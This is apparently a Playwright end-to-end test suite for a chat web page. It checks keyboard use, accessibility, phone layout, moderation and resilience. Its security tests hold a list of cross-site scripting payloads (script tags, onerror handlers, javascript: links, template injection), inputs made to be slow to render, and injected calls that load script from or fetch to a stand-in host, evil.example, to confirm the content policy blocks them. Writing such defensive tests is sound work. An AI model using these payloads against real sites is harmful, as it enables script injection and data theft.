"""What people do at the page, on one node: by mouse, by keyboard alone, on a phone; and what it must not let happen."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Route, expect

from tests.node.process import NodeProcess, chat_node

from .conftest import page_of
from .people import Person

pytestmark = pytest.mark.timeout(120)
PHONE = {"viewport": {"width": 390, "height": 780}, "has_touch": True, "is_mobile": True}

HOSTILE = [
    "<script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 1'>",
    "<svg onload='window.hacked = 1'><style>*{display:none}</style></svg>",
    "[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](data:text/html,x) [d](vbscript:x)",
    "[e](\x01javascript:window.hacked=1) <javascript:window.hacked=1> ![f](x onerror=window.hacked=1)",
    '[g](https://example.org "\\" onmouseover=window.hacked=1 x=\\"")',
    "```\n</code></pre><img src=x onerror=window.hacked=1>\n```",
    "`</code><script>window.hacked=1</script>`",
    '<a href="javascript:window.hacked=1">h</a> <iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "<!--?lit$123$--> ${window.hacked=1} {{constructor.constructor('window.hacked=1')()}}",
    "| <b>t</b> |\n|---|\n| <i>u</i> |",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;b&#62;",
]
LONG = [
    "[" * 8000,
    "*a " * 5000,
    "`" * 16000,
    "> " * 8000 + "x",
    "- " * 6000,
    "<" * 16000,
    "a@" * 8000,
    "![](" * 4000,
    "_" * 16000,
]


@pytest.fixture(scope="module")
def ana(browser: Browser, node: NodeProcess) -> Iterator[Person]:
    person = Person.at(browser, page_of(node), "ana", bypass_csp=False)
    person.create("hall", "Hall")
    yield person
    assert person.problems == []


# --- nothing that somebody writes becomes markup ---


def test_hostile_texts_stay_text(ana: Person) -> None:
    for text in HOSTILE:
        ana.say(text)
    expect(ana.timeline.locator("li.message")).to_have_count(len(HOSTILE))
    ana.page.wait_for_timeout(300)
    assert ana.page.evaluate("window.hacked") is None
    inside = ana.timeline.locator(".body").locator(
        "script, img, svg, iframe, style, object, [onerror], [onload], [onmouseover]"
    )
    assert inside.count() == 0
    links = ana.timeline.locator(".body a").evaluate_all("(all) => all.map((a) => [a.protocol, a.rel])")
    assert {tuple(link) for link in links} == {("https:", "noopener noreferrer nofollow")}
    shown = ana.timeline.locator(".body").all_inner_texts()
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[8]):
        assert text in shown


def test_texts_made_to_take_long_do_not(ana: Person) -> None:
    for text in LONG:
        ana.say(text)
    ana.say("after them")
    ana.sees("after them")


def test_hostile_titles_and_notices_stay_text(ana: Person, node: NodeProcess) -> None:
    title = "<img src=x onerror='window.hacked=1'>"
    ana.create("evil", title)
    expect(ana.page.get_by_role("main").get_by_role("heading")).to_contain_text(title)
    until = str(time.time() + 60)
    told = chat_node("notice", "--until", until, title, data_dir=node.data_dir, http_port=node.http_port)
    assert told.returncode == 0, told.stderr
    expect(ana.page.get_by_role("region", name="Notices")).to_have_text(title)
    assert ana.page.evaluate("window.hacked") is None


def test_the_policy_stops_what_got_in_all_the_same(browser: Browser, node: NodeProcess) -> None:
    """Should there ever be a hole, the browser runs nothing that is not the page's own."""
    person = Person.at(browser, page_of(node), "probe")
    for attempt in (
        "document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hacked = 1'}))",
        "document.body.innerHTML = '<img src=x onerror=window.hacked=1>'",
        "document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
        "new Function('window.hacked = 1')()",
        "new WebSocket('ws://127.0.0.1:9/ws')",
        "fetch('https://evil.example/')",
    ):
        # What the debugger says itself is not bound by the policy, so it lets a task of the page do it.
        person.problems.clear()
        person.page.evaluate(f"setTimeout(() => {{ {attempt} }})")
        person.wait_for(lambda: person.problems, attempt)
    assert person.page.evaluate("window.hacked") is None


# --- reading ---


def test_the_past_is_loaded_on_the_way_up_and_the_place_is_kept(ana: Person, node: NodeProcess) -> None:
    lines = "\n".join(f"line {number}" for number in range(130))
    filled = chat_node("send", "--user", "filler", "--room", "long", "--create", text=lines, chat_url=node.url)
    assert filled.returncode == 0, filled.stderr
    ana.join("long")
    ana.sees("line 129")
    assert ana.timeline.locator("li.message").count() == 50
    place = "e => { e.scrollTop = 0; const m = e.querySelector('li.message'); return m.getBoundingClientRect().top }"
    top = ana.timeline.evaluate(place)
    expect(ana.timeline.locator("li.message")).to_have_count(100)
    moved = ana.message("line 80").first.evaluate("m => m.getBoundingClientRect().top")
    assert abs(moved - top) < 3
    ana.timeline.evaluate("e => { e.scrollTop = 0 }")
    expect(ana.message("line 0")).to_be_attached()
    ana.timeline.evaluate("e => { e.scrollTop = 0 }")
    expect(ana.page.get_by_text("This is the beginning.")).to_be_visible()


def test_search_finds_and_goes_there(browser: Browser, node: NodeProcess) -> None:
    seeker = Person.at(browser, page_of(node), "seeker")
    seeker.join("long")
    page = seeker.page
    page.keyboard.press("Control+Shift+F")
    page.get_by_label("Words to look for").fill("line 20")
    page.keyboard.press("Enter")
    page.get_by_role("complementary").get_by_role("button", name="filler in long").click()
    expect(seeker.message("line 20")).to_be_focused()
    expect(seeker.message("line 129")).to_have_count(0)
    page.get_by_role("button", name="To the latest messages").click()
    expect(seeker.message("line 129")).to_be_in_viewport()
    assert seeker.problems == []


# --- moderation ---


def test_who_may_moderates(browser: Browser, node: NodeProcess, ana: Person) -> None:
    bo = Person.at(browser, page_of(node), "bo")
    bo.join("hall")
    bo.say("something rude")
    ana.room("Hall").click()

    def moderate(action: str) -> None:
        ana.page.get_by_role("button", name="More about bo").click()
        ana.page.get_by_role("dialog").get_by_role("button", name=action, exact=True).click()
        expect(ana.page.get_by_role("dialog")).to_have_count(0)

    ana.page.get_by_role("button", name=re.compile("2 members")).click()
    ana.do("something rude", "Delete")
    ana.page.get_by_role("dialog").get_by_role("button", name="Delete").click()
    expect(bo.timeline.get_by_text("Message deleted")).to_be_visible()
    moderate("10 minutes")
    expect(bo.page.get_by_text("You are muted in this room.")).to_be_visible()
    expect(bo.composer).to_be_disabled()
    moderate("Unmute")
    expect(bo.composer).to_be_enabled()
    moderate("Ban from the room")
    # The node does not tell who was thrown out: the page asks when somebody looks at it again, or something is refused.
    bo.page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")
    expect(bo.page.get_by_role("alert")).to_contain_text("You are not in Hall any more")
    bo.page.get_by_role("button", name="Find a room").first.click()
    bo.page.get_by_role("dialog").get_by_role("button", name="Join Hall").click()
    expect(bo.page.get_by_role("alert")).to_contain_text("banned")
    assert bo.problems == []
    ana.page.keyboard.press("Escape")


# --- for everybody ---


def test_keyboard_alone(browser: Browser, node: NodeProcess) -> None:
    person = Person(browser.new_context(), "kim")
    page, press = person.page, person.page.keyboard.press
    page.goto(page_of(node))
    expect(page.get_by_label("Name")).to_be_focused()
    page.keyboard.type("kim")
    press("Enter")
    expect(person.status).to_contain_text("Connected to")
    new_room = page.get_by_role("button", name="New room")
    for _ in range(20):
        if new_room.evaluate("e => e === document.activeElement"):
            break
        press("Tab")
    press("Enter")
    expect(page.get_by_label("Id")).to_be_focused()
    page.keyboard.type("keys")
    press("Enter")
    expect(person.composer).to_be_focused()
    for text in ("first", "second"):
        page.keyboard.type(text)
        press("Enter")
        person.sees(text)
    person.wait_sent()
    press("ArrowUp")
    expect(person.composer).to_have_value("second")
    page.keyboard.type("!")
    press("Enter")
    person.sees("second!")
    press("Shift+F6")
    expect(person.timeline).to_be_focused()
    press("ArrowUp")
    expect(person.message("second!")).to_be_focused()
    press("ArrowUp")
    press("+")
    expect(page.get_by_label("React with").get_by_role("button").first).to_be_focused()
    press("Enter")
    expect(person.message("first").get_by_role("button", name="👍 1 by kim")).to_be_visible()
    press("Control+k")
    page.keyboard.type("keys")  # at once, as fast fingers do
    expect(page.get_by_role("dialog").get_by_role("textbox")).to_have_value("keys")
    press("Enter")
    expect(page.get_by_role("dialog")).to_have_count(0)
    press("Escape")
    expect(person.composer).to_be_focused()
    assert person.problems == []


def test_a_browser_that_draws_no_frames_shows_the_page_all_the_same(browser: Browser, node: NodeProcess) -> None:
    context = browser.new_context()
    context.add_init_script("window.requestAnimationFrame = () => 1")
    person = Person(context, "fay")
    page, press = person.page, person.page.keyboard.press
    page.goto(page_of(node))
    expect(page.get_by_label("Name")).to_be_focused()
    page.keyboard.type("fay")
    press("Enter")
    expect(person.status).to_contain_text("Connected to")
    page.get_by_role("button", name="New room").focus()
    press("Enter")
    expect(page.get_by_label("Id")).to_be_focused()
    page.keyboard.type("frameless")
    press("Enter")
    expect(person.composer).to_be_focused()


@pytest.mark.parametrize("colours", ["light", "dark"])
def test_accessibility(browser: Browser, node: NodeProcess, colours: str) -> None:
    person = Person(browser.new_context(color_scheme=colours), f"eve-{colours}")  # type: ignore[arg-type]
    person.page.goto(page_of(node))
    expect(person.page.get_by_label("Name")).to_be_visible()
    assert person.violations() == []
    person.sign_in(page_of(node))
    person.create(f"axe-{colours}", "Accessible")
    person.say(f"to me: @{person.name} `code` [link](https://example.org)\n\n> quoted\n\n```\nblock\n```")
    person.message("to me").hover()
    assert person.violations() == []
    person.page.get_by_role("button", name=re.compile("1 member")).click()
    expect(person.page.get_by_role("complementary")).to_be_visible()
    assert person.violations() == []
    for opened in ("Menu", "Room settings", "Find a room", "New room"):
        person.page.get_by_role("button", name=opened).first.click()
        expect(person.page.get_by_role("dialog")).to_be_visible()
        assert person.violations() == []
        person.page.keyboard.press("Escape")
        if colours == "dark":
            break  # the others differ in nothing that has to do with colours
    assert person.problems == []


def test_phone(browser: Browser, node: NodeProcess) -> None:
    person = Person.at(browser, page_of(node), "pat", **PHONE)
    page = person.page

    def fits() -> bool:
        return bool(page.evaluate("document.documentElement.scrollWidth <= innerWidth"))

    assert fits()
    person.create("pocket", "In the pocket")
    person.say("w" * 300)
    person.sees("w" * 300)
    assert fits()
    expect(page.get_by_role("navigation")).to_be_hidden()
    page.get_by_role("button", name=re.compile("1 member")).click()
    expect(page.get_by_role("complementary")).to_be_visible()
    assert fits()
    page.get_by_role("button", name="Close").click()
    expect(person.composer).to_be_visible()
    assert person.violations() == []
    page.get_by_role("link", name="Back to the rooms").click()
    expect(person.room("In the pocket")).to_be_visible()
    expect(person.composer).to_be_hidden()
    assert person.problems == []


def test_who_comes_by_a_link_to_a_room_can_join_it_on_a_phone_too(browser: Browser, node: NodeProcess) -> None:
    host = Person.at(browser, page_of(node), "host")
    host.create("parlour")
    person = Person.at(browser, page_of(node), "cy", **PHONE)
    person.page.goto(page_of(node) + "#parlour")
    person.page.get_by_role("link", name="All rooms").click()
    expect(person.page.get_by_role("navigation")).to_be_visible()
    person.page.go_back()
    person.page.get_by_role("button", name="Join parlour").click()
    expect(person.composer).to_be_visible()
    assert person.problems == []


def test_who_looks_elsewhere_is_notified_of_what_is_for_them(browser: Browser, node: NodeProcess, ana: Person) -> None:
    person = Person.at(browser, page_of(node), "noa", permissions=["notifications"])
    page = person.page
    page.evaluate(
        "window.told = []; window.Notification = class { static permission = 'granted';"
        " constructor(title, { body }) { told.push([title, body]); } }; document.hasFocus = () => false;"
    )
    page.get_by_role("button", name="Menu").click()
    page.get_by_label("Notify me of mentions and direct messages").check()
    page.get_by_role("button", name="Close").click()
    page.goto(page_of(node) + "#hall")
    page.get_by_role("button", name="Join hall").click()
    ana.room("Hall").click()
    expect(ana.page.get_by_role("button", name=re.compile("2 members"))).to_be_visible()
    for text in ("not for you", "for you, @noa"):
        ana.say(text)
        person.sees(text)
    assert page.evaluate("told") == [["ana in Hall", "for you, @noa"]]


def test_the_page_comes_by_itself_although_a_part_of_it_failed(browser: Browser, node: NodeProcess) -> None:
    asked = 0

    def fail_once(route: Route) -> None:
        nonlocal asked
        asked += 1
        if asked == 1:
            route.fulfill(status=503)
        else:
            route.continue_()

    page = browser.new_page()
    page.route("**/app/link.js", fail_once)
    page.goto(page_of(node))
    expect(page.get_by_role("button", name="Sign in", exact=True)).to_be_visible(timeout=15_000)
    assert asked == 2
    page.close()


def test_a_reload_comes_back_to_the_room_and_the_draft(ana: Person) -> None:
    ana.room("Hall").click()
    ana.composer.fill("not finished yet")
    ana.page.reload()
    expect(ana.composer).to_have_value("not finished yet")
    expect(ana.page.get_by_role("main").get_by_role("heading")).to_contain_text("Hall")
    ana.composer.fill("")


def test_what_is_too_long_is_said_and_stays(ana: Person) -> None:
    ana.say("x" * 16_385)
    expect(ana.page.get_by_role("alert").filter(has_text="Too long by 1 byte")).to_be_visible()
    expect(ana.composer).to_have_value("x" * 16_385)
    ana.composer.fill("")


def test_what_the_browser_kept_in_another_form_does_no_harm(browser: Browser, node: NodeProcess) -> None:
    person = Person(browser.new_context(), "old")
    person.page.goto(page_of(node))
    for name, text in (("a", "{"), ("b", "null"), ("c", '{"cid": "c"}')):
        person.page.evaluate(f"localStorage.setItem('chat.unsent.old.{name}', '{text}')")
    person.sign_in(page_of(node))
    expect(person.status).to_have_text("Connected to node1.")
    assert person.problems == []
